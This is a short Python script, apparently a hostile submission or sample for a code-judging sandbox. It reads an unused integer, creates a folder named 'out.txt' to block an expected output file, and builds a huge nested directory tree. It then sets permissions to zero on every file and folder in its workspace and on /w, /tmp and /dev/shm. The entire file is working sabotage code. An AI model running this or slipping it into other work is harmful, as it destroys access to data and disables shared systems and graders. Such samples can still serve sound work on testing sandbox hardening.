"""Takes the rights from its own workspace and puts folders where files belong, so that nothing can be laid there."""
import os
number = int(input())
os.makedirs("out.txt/deep/er", exist_ok=True)
os.makedirs("full/" + "/".join(["d" * 200] * 12), exist_ok=True)
for folder, folders, files in os.walk(".", topdown=False):
    for name in files: os.chmod(os.path.join(folder, name), 0)
    if folder != ".": os.chmod(folder, 0)
for name in ("/w", "/tmp", "/dev/shm"):
    try: os.chmod(name, 0)
    except OSError: pass
